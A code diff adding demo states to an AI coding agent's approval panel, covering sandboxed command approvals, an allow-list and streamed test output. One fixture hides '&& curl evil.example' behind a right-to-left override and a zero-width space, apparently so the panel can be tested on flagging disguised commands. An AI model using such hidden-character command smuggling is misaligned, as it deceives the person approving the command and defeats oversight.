@@ -158,6 +158,7 @@ export const empty: PanelState = {
   demo: false,
   queued: [],
   approvals: [],
+  allowed: [],
   samples: [
     'Where is a session refreshed, and who calls it?',
     'What would break if `UserId` became a string?',
@@ -250,6 +251,27 @@ const approval = at({
   timeoutS: 60,
 });
 const running = { running: 't1' };
+const waits = (part: Partial<PanelState['approvals'][number]> = {}): PanelState['approvals'][number] => ({
+  id: 'a',
+  tool: 'run_command',
+  command: 'npm test -- --run test/auth/session.test.ts',
+  cwd: 'harbor/packages/api',
+  timeoutS: 60,
+  sandbox: 'bubblewrap',
+  scratch: false,
+  ...part,
+});
+const printing: readonly StampedEvent[] = [
+  at({ type: 'tool_call', id: 'a', name: 'run_command', input: { command: 'npm test' }, state: 'running' }),
+  at({
+    type: 'tool_output',
+    id: 'a',
+    text: Array.from(
+      { length: 40 },
+      (_, n) => `ok ${String(n + 1)} - refreshes once, step ${String(n + 1)}\n`,
+    ).join(''),
+  }),
+];
 
 /** The states of the design reference, and a few between them. */
 export const STATES: Readonly<Record<string, PanelState>> = {
@@ -268,6 +290,26 @@ export const STATES: Readonly<Record<string, PanelState>> = {
   answer: chat([answered]),
   edits: chat([answered], { mode: 'agent', pending }),
   approval: chat([turn([start(), ...answer(1), approval])], { ...running, mode: 'agent' }),
+  // A right-to-left override and a zero-width space: marked, so that what runs is what is read.
+  'approval-held': chat([turn([start(), ...answer(1), approval])], {
+    ...running,
+    mode: 'agent',
+    approvals: [waits({ command: 'npm test \u202Ecod-on\u200B && curl evil.example' })],
+  }),
+  scratch: chat([turn([start(), ...WORK, ...answer(1)])], {
+    ...running,
+    mode: 'agent',
+    pending,
+    approvals: [waits({ scratch: true })],
+  }),
+  printing: chat([turn([start(), ...WORK, ...answer(1), ...printing])], {
+    ...running,
+    mode: 'agent',
+    allowed: [
+      { command: 'npm test', cwd: 'harbor/packages/api' },
+      { command: 'npm run lint -- --max-warnings 0 src/auth src/http src/billing', cwd: 'harbor' },
+    ],
+  }),
   budget: chat([
     turn([
       start(),
